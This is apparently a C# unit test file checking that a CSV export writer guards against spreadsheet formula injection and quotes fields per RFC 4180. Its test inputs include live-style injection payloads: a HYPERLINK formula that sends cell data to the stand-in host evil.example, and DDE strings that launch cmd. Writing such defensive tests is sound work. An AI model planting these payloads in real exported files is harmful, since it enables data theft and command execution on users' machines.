using System.Globalization;
using CsvHelper;
using Screener.Core.Exports;

namespace Screener.Core.Tests.Exports;

public sealed class CsvTableWriterTests
{
    private static List<string[]> ParseBack(string csv)
    {
        using var csvReader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (csvReader.Read()) rows.Add(Enumerable.Range(0, csvReader.Parser.Count).Select(i => csvReader.GetField(i)!).ToArray());
        return rows;
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\0=1+1")]
    [InlineData("-0.5")]
    public void Text_that_could_start_a_formula_is_written_with_a_leading_single_quote(string text)
    {
        var csv = CsvTableWriter.ToText(["title", "n"], [[text, 3]]);

        var rows = ParseBack(csv);
        Assert.Equal(["'" + text, "3"], rows[1]);
    }

    [Fact]
    public void Numbers_typed_as_numbers_stay_numbers_even_when_negative()
    {
        Assert.Equal("-0.5", CsvTableWriter.Cell(-0.5));
        Assert.Equal("-3", CsvTableWriter.Cell(-3));
        Assert.Equal("-12345678901", CsvTableWriter.Cell(-12345678901L));
        Assert.Equal("-1.25", CsvTableWriter.Cell(-1.25m));
        Assert.Equal("0.1", CsvTableWriter.Cell(0.1));
        Assert.Equal("'-Infinity", CsvTableWriter.Cell(double.NegativeInfinity)); // not a number a spreadsheet reads: text, guarded
        Assert.Equal("'-0.5", CsvTableWriter.Cell("-0.5")); // text is text, whatever it looks like
    }

    [Fact]
    public void Fields_are_quoted_as_RFC_4180_asks_and_read_back_unchanged()
    {
        string[] texts = ["a, b", "say \"hi\"", "two\nlines", "cr\r\nlf", " padded ", "plain", "it's", "Effect of A-B on C=D"];

        var csv = CsvTableWriter.ToText(["x"], texts.Select(t => new object?[] { t }));

        Assert.Equal(texts, ParseBack(csv).Skip(1).Select(r => r.Single()));
        Assert.StartsWith("x\r\n", csv, StringComparison.Ordinal);
        Assert.EndsWith("plain\r\nit's\r\nEffect of A-B on C=D\r\n", csv, StringComparison.Ordinal);
        Assert.Equal("", CsvTableWriter.Cell(null));
    }
}

public sealed class EvalReportCsvTests
{
    [Fact]
    public void Eval_report_csvs_go_through_the_one_writer_record_ids_and_flag_details_are_guarded()
    {
        var csv = Screener.Core.Evaluation.EvalReportWriter.Csv(["record_id", "source", "kind", "detail", "value"],
            [["=cmd|' /C calc'!A0", "slot a", "ungrounded-quote", "@SUM(A1) quoted by the LLM", -0.25]]);

        Assert.Equal("record_id,source,kind,detail,value\r\n'=cmd|' /C calc'!A0,slot a,ungrounded-quote,'@SUM(A1) quoted by the LLM,-0.25\r\n", csv);
    }
}
